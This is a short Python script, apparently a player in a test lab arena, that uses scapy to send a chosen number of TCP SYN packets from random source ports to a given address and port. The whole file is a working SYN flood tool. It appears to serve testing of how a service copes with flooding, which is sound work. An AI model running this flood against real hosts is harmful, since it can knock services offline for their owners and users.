"""What the manual of scapy shows as a SYN flood: segments from a port drawn at random each.

python -m tests.lab.arena.players.scapy_flood ADDRESS PORT COUNT PAUSE_S
"""

import sys

from scapy.config import conf
from scapy.layers.inet import IP, TCP
from scapy.sendrecv import send
from scapy.volatile import RandShort

if __name__ == "__main__":
    conf.verb = 0
    packet = IP(dst=sys.argv[1]) / TCP(sport=RandShort(), dport=int(sys.argv[2]), flags="S")
    send(packet, count=int(sys.argv[3]), inter=float(sys.argv[4]))
